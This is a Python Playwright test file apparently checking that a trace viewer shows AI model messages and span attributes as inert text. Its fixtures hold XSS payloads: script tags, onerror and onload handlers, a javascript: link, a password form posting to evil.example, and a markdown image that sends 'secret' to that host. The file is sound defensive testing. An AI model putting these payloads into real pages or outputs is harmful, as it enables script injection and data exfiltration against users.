"""What a model says is shown, and never obeyed."""

from __future__ import annotations

from collections.abc import Callable

from playwright.sync_api import expect

from tests.e2e import traffic
from tests.e2e.visitor import Visitor, rows

SAID = """# Heading

<img src="http://evil.example/pixel.png" onerror="alert(1)"> <script>alert(2)</script>
<style>body { display: none }</style> <iframe src="http://evil.example/"></iframe>
<form action="http://evil.example/"><input name="password"></form>

![secret](http://evil.example/?q=secret) [click](javascript:alert(3)) <a href="http://evil.example" ping="http://evil.example/ping">out</a>

<svg onload="alert(4)"><use href="http://evil.example/x.svg#a"/></svg> <b style="background:url(http://evil.example/bg)">bold</b>

The harmless end.
"""


def test_markup_in_messages_runs_nothing_and_asks_nobody(stored: str, visits: Callable[[str], Visitor]) -> None:
    trace = traffic.post(stored, 666, [traffic.chat(0, f"Question {SAID}", f"Answer {SAID}")])
    page = visits(stored).open(f"/t/{trace}")
    messages = page.get_by_test_id("messages")
    expect(messages).to_contain_text("The harmless end.")
    for reading in ("Markdown", "JSON", "Plain", "Auto"):
        messages.get_by_role("button", name=reading).or_(messages.get_by_role("radio", name=reading)).first.click()
        page.wait_for_timeout(200)
    expect(messages.locator("script, iframe, form, style, object, embed, [onerror], [onload]")).to_have_count(0)
    expect(messages.locator('a[href^="javascript"], img[src^="http"], [ping]')).to_have_count(0)
    page.keyboard.press("c")
    expect(page.get_by_test_id("conversation")).to_contain_text("The harmless end.")
    page.wait_for_timeout(300)


def test_names_and_ids_are_text_too(stored: str, visits: Callable[[str], Visitor]) -> None:
    name = "<img src=x onerror=alert(1)>"
    attributes = {
        "session.id": name,
        "user.id": name,
        "gen_ai.agent.name": name,
        "gen_ai.operation.name": "invoke_agent",
    }
    traffic.post(stored, 667, [traffic.span(0, name, attributes=attributes, failed=name)])
    page = visits(stored).open("/?q=status:error")
    expect(rows(page).filter(has_text="onerror").first).to_be_visible()
    rows(page).filter(has_text="onerror").first.locator(".row-link").click()
    expect(page.get_by_test_id("trace-header")).to_contain_text(name)
    page.keyboard.press("g")
    page.wait_for_timeout(300)
